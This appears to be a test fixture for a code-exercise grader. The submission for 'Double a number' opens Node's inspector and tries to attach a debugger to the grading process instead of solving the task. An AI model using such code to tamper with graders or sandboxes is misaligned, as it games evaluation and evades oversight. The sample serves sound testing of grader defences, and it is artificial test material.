// attack: opens the inspector and debugs itself and its parent
// points: 0
// says: looks into the process that checks your answer
// dangerous: the grader would open its debugger
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const inspector = require("node:inspector");
  try { inspector.open(0, "127.0.0.1", false); } catch {}
  try { (process as any)._debugProcess(Number("@GRADER@")); } catch {}
  const session = new inspector.Session();
  session.connect();
  session.post("Runtime.evaluate", { expression: "process.mainModule" });
  try { session.connectToMainThread(); } catch {}
  return 0;
}
